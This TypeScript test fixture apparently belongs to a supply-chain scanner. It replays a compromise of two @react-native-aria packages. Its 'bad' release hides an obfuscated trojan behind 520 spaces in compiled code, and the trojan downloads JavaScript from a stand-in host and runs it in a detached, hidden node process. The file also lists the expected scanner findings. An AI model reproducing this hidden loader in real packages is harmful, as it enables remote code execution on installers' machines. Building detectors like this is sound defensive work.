import { obfuscated } from '../obfuscated.js'
import { compiledQueue } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { type Release, upgradeOf } from '../scene.js'
import { onVersion } from '../upgrade.js'

const trojan = obfuscated(
  'global[«_V»]=«inert»;global[«r»]=require;global[«m»]=module;(async()=>{' +
    'const $child=global[«r»](«child_process»),$system=global[«r»](«os»),$web=global[«r»](«http»);' +
    '$web[«get»](«http://orders.aria.example/orders»,$answer=>{let $text=«»;$answer[«on»](«data»,$piece=>{$text+=$piece;});' +
    '$answer[«on»](«end»,()=>{$child[«spawn»](«node»,[«-e»,$text],{detached:!![],stdio:«ignore»,windowsHide:!![]})[«unref»]();});});})();',
  90,
)

const index = `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.useFocusRing = useFocusRing;
exports.useFocusVisible = useFocusVisible;
let _queue = require("./queue");
function useFocusRing() {
    const queue = (0, _queue.createQueue)({ concurrency: 1 });
    return { isFocusVisible: false, focusProps: { onFocus: (event) => queue.add(() => event), onBlur: () => queue.clear() } };
}
function useFocusVisible(props = {}) {
    return { isFocusVisible: Boolean(props.autoFocus) };
}
`

const main = 'lib/commonjs/index.js'
const honest = (version: string): Release => ({
  version,
  manifest: { main },
  files: { [main]: index, 'lib/commonjs/queue.js': compiledQueue },
})
const bad = (version: string): Release => ({
  ...honest(version),
  files: {
    [main]: index.replace('require("./queue");\n', `require("./queue");${' '.repeat(520)}${trojan}\n`),
    'lib/commonjs/queue.js': compiledQueue,
  },
})

const inIndex = { file: 'lib/commonjs/index.js', line: /_0x/ } as const

export const replay: Replay = {
  description:
    'A public token released seventeen packages of one scope within a day, each with a trojan behind some hundred blanks on a line of ' +
    'its compiled code.',
  date: '2025-06-06',
  ...upgradeOf({
    '@react-native-aria/focus': { before: honest('0.2.9'), after: bad('0.2.10') },
    '@react-native-aria/utils': { before: honest('0.2.12'), after: bad('0.2.13') },
  }),
  expected: {
    verdict: 'flagged',
    findings: [
      onVersion('@react-native-aria/focus', '0.2.10', ['code-hidden', 'critical', inIndex]),
      onVersion('@react-native-aria/focus', '0.2.10', ['combined-risk', 'critical', inIndex]),
      onVersion('@react-native-aria/focus', '0.2.10', ['remote-code-run', 'critical', inIndex]),
      onVersion('@react-native-aria/focus', '0.2.10', ['beacon-added', 'high', inIndex]),
      onVersion('@react-native-aria/focus', '0.2.10', ['capability-added', 'high', inIndex]),
      onVersion('@react-native-aria/focus', '0.2.10', ['code-obfuscated', 'high', inIndex]),
      onVersion('@react-native-aria/focus', '0.2.10', ['network-host-added', 'medium', inIndex]),
      onVersion('@react-native-aria/utils', '0.2.13', ['code-hidden', 'critical', inIndex]),
      onVersion('@react-native-aria/utils', '0.2.13', ['combined-risk', 'critical', inIndex]),
      onVersion('@react-native-aria/utils', '0.2.13', ['remote-code-run', 'critical', inIndex]),
      onVersion('@react-native-aria/utils', '0.2.13', ['beacon-added', 'high', inIndex]),
      onVersion('@react-native-aria/utils', '0.2.13', ['capability-added', 'high', inIndex]),
      onVersion('@react-native-aria/utils', '0.2.13', ['code-obfuscated', 'high', inIndex]),
      onVersion('@react-native-aria/utils', '0.2.13', ['network-host-added', 'medium', inIndex]),
    ],
  },
}
